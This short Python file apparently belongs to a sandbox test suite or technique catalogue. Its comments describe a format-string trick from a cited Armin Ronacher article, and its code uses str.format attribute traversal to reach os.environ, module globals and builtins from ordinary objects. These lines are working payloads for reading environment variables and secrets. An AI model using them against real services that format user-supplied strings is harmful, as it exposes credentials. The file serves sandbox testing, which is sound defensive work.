# technique: str.format walks from any object to os.environ and to globals
# source: "Be careful with Python's new-style string format" (Armin Ronacher)
# verdict: WA
# invariant: the environment holds nothing of the worker's
# without: seccomp capabilities network read_only_root
import os, warnings

class User:
    def __init__(self):
        self.name = "ada"

print("{0.__init__.__globals__[os].environ}".format(User()))
print("{0.catch_warnings.__init__.__globals__[sys].modules[posix].environ}".format(warnings))
print("{0.__init__.__globals__[__builtins__]}".format(User())[:200])
